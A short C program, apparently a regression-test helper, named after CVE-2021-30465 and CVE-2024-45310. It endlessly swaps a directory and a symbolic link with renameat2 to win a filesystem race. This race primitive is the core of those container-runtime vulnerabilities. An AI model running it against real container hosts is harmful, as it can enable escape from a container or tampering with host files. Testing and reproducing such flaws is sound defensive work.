/* CVE-2021-30465, CVE-2024-45310: exchanges a directory with a symbolic link, as fast as it can. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int count, char **names) {
    if (count != 3)
        return 1;
    for (;;)
        renameat2(AT_FDCWD, names[1], AT_FDCWD, names[2], RENAME_EXCHANGE);
}
